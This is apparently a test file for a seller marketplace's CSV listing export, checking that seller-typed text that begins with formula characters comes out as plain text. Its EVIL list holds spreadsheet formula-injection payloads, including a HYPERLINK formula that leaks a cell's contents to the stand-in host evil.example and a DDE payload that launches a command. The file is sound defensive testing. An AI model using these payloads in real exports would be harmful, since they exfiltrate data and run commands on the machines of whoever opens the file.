"""Row 5: what a seller (or whoever wrote to them) typed is text in a spreadsheet, never a formula."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from everystall.inventory.transfer import BATCH, COLUMNS, csv_line, guarded, plain
from tests.api.conftest import Site
from tests.attacks.estate import Estate

SIGNS = "=+-@\t\r\n＝＋－＠"
CELLS = st.text(st.characters(codec="utf-8"), max_size=40) | st.text(SIGNS + "'\",;ax", max_size=8)
EVIL = ['=HYPERLINK("http://evil.example?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "'=1", '"=1"']


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.lists(CELLS, min_size=1, max_size=6))
def test_no_cell_begins_a_formula_and_each_comes_back_as_it_was(row):
    ((*cells,),) = _read(csv_line(row))
    assert not [cell for cell in cells if cell[:1] in tuple(SIGNS)]
    assert [plain(cell) for cell in cells] == row


@given(CELLS)
def test_what_starts_no_formula_is_left_alone(value):
    assert guarded(value) == value or value.lstrip("'")[:1] in tuple(SIGNS)


async def test_the_file_holds_all_that_is_the_sellers_as_text(estate: Estate):
    alice = estate.alice
    for evil in EVIL:
        made = await alice.post(
            "/api/listings",
            {"title": evil, "description": f"{evil}\nin two lines", "tags": [evil], "specifics": {"A": evil}},
        )
        assert made.status_code == 201
    answer = await alice.get("/api/export/listings.csv")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith('attachment; filename="everystall-listings-')
    head, *rows = _read(answer.text.removeprefix("\ufeff"))
    assert head == list(COLUMNS)
    assert [cell for row in rows for cell in row if cell[:1] in tuple(SIGNS)] == []
    told = [{name: plain(cell) for name, cell in zip(head, row, strict=True)} for row in rows]
    listings = (await alice.get("/api/listings")).json()["listings"]
    assert {row["listing_id"]: row["title"] for row in told} == {one["id"]: one["title"] for one in listings}
    (shirt,) = [row for row in told if row["listing_id"] == estate.ids["listingId"]]
    assert (shirt["price"], shirt["weight_oz"], shirt["colors"]) == ("25.00", "12", "blue")
    (whole,) = [one for one in listings if one["id"] == estate.ids["listingId"]]
    assert shirt["photos"].split() == [photo["sha256"] for photo in whole["photos"]]
    assert {row["title"]: row["description"] for row in told}[EVIL[0]] == f"{EVIL[0]}\nin two lines"
    bob = await estate.site.person("bob")
    assert _read((await bob.get("/api/export/listings.csv")).text.removeprefix("\ufeff")) == [list(COLUMNS)]


async def test_a_long_list_comes_whole_and_in_order(site: Site):
    alice = await site.person("alice")
    await site.rows(
        "INSERT INTO listings (user_id, title, created_at) SELECT id, 'n' || n, now() - n * interval '1 s' "
        f"FROM users, generate_series(1, {BATCH * 2}) n WHERE email = 'alice@example.com'"
    )
    head, *rows = _read((await alice.get("/api/export/listings.csv")).text.removeprefix("\ufeff"))
    assert [row[head.index("title")] for row in rows] == [f"n{n}" for n in range(BATCH * 2, 0, -1)]
